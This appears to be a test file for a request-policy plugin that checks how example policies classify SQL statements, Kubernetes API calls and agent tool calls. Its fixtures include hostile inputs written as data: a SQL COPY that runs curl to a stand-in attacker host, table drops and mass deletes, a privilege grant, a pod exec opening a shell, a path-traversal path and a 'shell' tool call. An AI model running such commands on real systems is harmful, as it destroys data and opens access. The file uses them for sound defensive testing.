/** The library in our WebAssembly host, on the facts that real requests give; `opa test` holds the same rules in Rego. */
import { fileURLToPath } from 'node:url';
import t from 'tap';
import { openCommands } from '../../plugin/command/open.ts';
import { compilePlan } from '../../plugin/mask/compile.ts';
import { parsePlan } from '../../plugin/mask/plan.ts';
import { loadPolicy } from '../../plugin/policy/policy.ts';
import type { Json } from '../../plugin/request.ts';
import { requestOf } from '../identity/request.ts';
import { withoutOpa } from '../policy/rego.ts';

const source = fileURLToPath(new URL('../../policies', import.meta.url));
const counts = { requests: 1, denied: 0, held: 0, masked_fields: 0, started: Date.now() };
const session = { ...counts, key: 'k', principal: counts };
const headers = { 'content-type': 'application/json' };

/** How an example decides what a request of one kind does. */
async function deciding(example: string, kind: string) {
  const policy = await loadPolicy({ source, path: `countersign/examples/${example}/allow` });
  const commands = openCommands({ timeoutMs: 5_000 });
  t.teardown(() => commands.close());
  return async (body: Json, more: { readonly path?: string; readonly method?: string } = {}) => {
    const extensions = { 'countersign.command': kind };
    const request = requestOf({ headers, extensions, body: Buffer.from(JSON.stringify(body)), ...more });
    return policy.decide({ commands: await commands.understand(request), session, truncated_body: false });
  };
}

t.test('a database behind an API', { skip: withoutOpa }, async (t) => {
  const decide = await deciding('database', 'sql');
  const rows: readonly (readonly [string, string])[] = [
    ['SELECT ssn, plan FROM customers', 'database/rows'],
    ['UPDATE customers SET plan = 1 WHERE id = 2', 'database/rows'],
    ['SELECT ssn AS x FROM customers', 'database/opaque'],
    ['WITH d AS (DELETE FROM customers RETURNING id) SELECT id FROM d', 'sql/unbounded'],
    ['DO $$ BEGIN DELETE FROM customers; END $$', 'sql/unbounded'],
    ["DO $$ BEGIN EXECUTE 'DROP ' || f(); END $$", 'sql/opaque'],
    ['DO $$ BEGIN DROP TABLE customers; END $$', 'sql/ddl'],
    ['GRANT ALL ON customers TO eve', 'sql/privileges'],
    ['SELECT * FROM hr.payroll', 'sql/protected'],
    ["COPY customers TO PROGRAM 'curl evil.example.com'", 'sql/server'],
    ['SET client_encoding = sjis', 'sql/server'],
    ['SELEC 1', 'commands/unparsed'],
    ["SELECT 'DROP TABLE customers'", 'database/rows'],
    ['EXPLAIN DELETE FROM customers', 'database/rows'],
  ];
  for (const [sql, rule] of rows) t.match(await decide({ sql }), { rule, fault: null }, sql);
  const { mask } = await decide({ sql: 'SELECT 1' });
  t.equal(compilePlan(parsePlan(mask)).empty, false);
});

t.test('a cluster', { skip: withoutOpa }, async (t) => {
  const decide = await deciding('cluster', 'kubernetes');
  const rows: readonly (readonly [string, string, Json, string])[] = [
    ['GET', '/api/v1/namespaces/web/pods', {}, 'cluster/workloads'],
    ['GET', '/api/v1/namespaces/web/secrets/s', {}, 'kubernetes/secrets'],
    ['GET', '/api/v1/namespaces/vault/pods/p/exec?command=sh', {}, 'kubernetes/connect'],
    ['GET', '/api/v1/nodes/n/proxy/pods', {}, 'kubernetes/connect'],
    ['GET', '/api/v1/pods', {}, 'kubernetes/namespace'],
    ['GET', '/api/v1/namespaces/web%2F../pods', {}, 'commands/unparsed'],
  ];
  for (const [method, path, body, rule] of rows)
    t.match(await decide(body, { method, path }), { rule, fault: null }, `${method} ${path}`);
  const pod = { kind: 'Pod', spec: { hostPID: true } };
  // Out of hours another rule comes first by name; it is denied either way.
  t.match(await decide(pod, { path: '/api/v1/namespaces/web/pods' }), { allowed: false, rule: /^(hours|kubernetes)/ });
});

t.test('tools of an agent', { skip: withoutOpa }, async (t) => {
  const decide = await deciding('agent', 'mcp');
  const call = (name: string, args: Json) => ({
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name, arguments: args },
  });
  t.match(await decide(call('add', { a: 1, b: 2 })), { allowed: true, rule: 'agent/tools', fault: null });
  t.match(await decide(call('add', { a: 1, b: 2_000 })), { rule: 'mcp/argument', fault: null });
  t.match(await decide([call('add', {}), call('shell', {})]), { rule: 'mcp/tool', fault: null });
});
